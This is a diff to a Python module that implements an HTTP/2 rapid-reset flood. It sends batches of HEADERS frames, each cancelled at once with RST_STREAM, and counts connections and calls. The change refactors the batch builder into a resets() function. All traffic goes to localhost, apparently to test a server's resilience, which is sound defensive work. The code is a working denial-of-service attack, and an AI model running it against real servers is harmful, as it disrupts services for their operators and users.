@@ -62,7 +62,7 @@ def attack(port: int, seconds: float, ca: Path | None = None) -> Attack:
     told, end = Attack(), time.monotonic() + seconds
     while time.monotonic() < end:
         try:
-            with _connected(port, ca) as connection:
+            with connected(port, ca) as connection:
                 told.connections += 1
                 _attack_over(connection, headers("https" if ca else "http"), told, end)
         except OSError:
@@ -70,8 +70,15 @@ def attack(port: int, seconds: float, ca: Path | None = None) -> Attack:
     return told
 
 
+def resets(first: int, block: bytes) -> bytes:
+    """A batch of calls from stream ``first`` on, each taken back at once."""
+    streams = range(first, first + 2 * BATCH, 2)
+    return b"".join(frame(HEADERS, END_HEADERS, each, block) + frame(RST_STREAM, 0, each, CANCEL) for each in streams)
+
+
 @contextmanager
-def _connected(port: int, ca: Path | None) -> Iterator[socket.socket]:
+def connected(port: int, ca: Path | None) -> Iterator[socket.socket]:
+    """A connection from 127.0.0.2, over TLS where an authority is given."""
     with socket.create_connection(("127.0.0.1", port), timeout=10, source_address=("127.0.0.2", 0)) as plain:
         if ca is None:
             yield plain
@@ -86,11 +93,8 @@ def _attack_over(connection: socket.socket, block: bytes, told: Attack, end: flo
     connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
     stream, unread = 1, b""
     while time.monotonic() < end and stream + 2 * BATCH < LAST_STREAM:
-        calls = range(stream, stream + 2 * BATCH, 2)
-        connection.sendall(
-            b"".join(frame(HEADERS, END_HEADERS, each, block) + frame(RST_STREAM, 0, each, CANCEL) for each in calls)
-        )
-        stream = calls[-1] + 2
+        connection.sendall(resets(stream, block))
+        stream += 2 * BATCH
         told.calls += BATCH
         while select.select([connection], [], [], 0)[0]:
             came = connection.recv(1 << 16)
